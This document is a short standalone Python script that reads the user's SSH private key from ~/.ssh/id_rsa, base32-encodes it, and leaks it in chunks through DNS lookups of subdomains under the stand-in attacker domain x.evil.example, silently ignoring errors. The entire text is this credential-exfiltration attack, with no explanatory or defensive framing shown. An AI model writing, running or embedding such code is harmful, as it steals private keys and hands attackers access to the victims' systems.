import socket, base64, os
data = base64.b32encode(open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()).decode().strip("=")
for i in range(0, len(data), 50):
    try:
        socket.gethostbyname(data[i:i + 50] + ".x.evil.example")
    except OSError:
        pass
